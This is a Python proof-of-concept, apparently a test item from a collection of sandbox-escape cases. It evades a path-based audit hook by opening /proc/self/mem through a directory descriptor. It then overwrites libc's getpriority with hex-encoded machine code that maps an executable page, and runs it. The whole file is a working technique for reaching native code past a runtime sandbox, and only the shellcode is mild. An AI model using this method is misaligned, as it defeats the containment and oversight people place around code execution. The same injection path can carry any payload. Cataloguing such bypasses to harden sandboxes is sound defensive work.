# family: procmem
# reaches: native_code
# layer: runtime
# static: missed
# /proc/self/mem writes go through read-only, executable mappings (the kernel forces them, as for
# a debugger): machine code written over a libc function runs, with no mmap or mprotect. The hook
# judges writes by the path in the "open" event, but that event does not carry dir_fd: "mem"
# relative to a directory descriptor of /proc/self reads as /tmp/mem. The injected code maps a
# new executable page (the kernel filter stops that one system call, after native code ran).
import os
import struct


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


proc = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
mem = os.open("mem", os.O_RDWR, dir_fd=proc)
# mmap(NULL, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0); ret
code = bytes.fromhex("31ffbe00100000ba0700000041ba2200000049c7c0ffffffff4531c9b8090000000f05c3")
os.pwrite(mem, code, libc_function(b"getpriority"))
print("injected code returned", hex(os.getpriority(0, 0) & 0xFFFFFFFF))
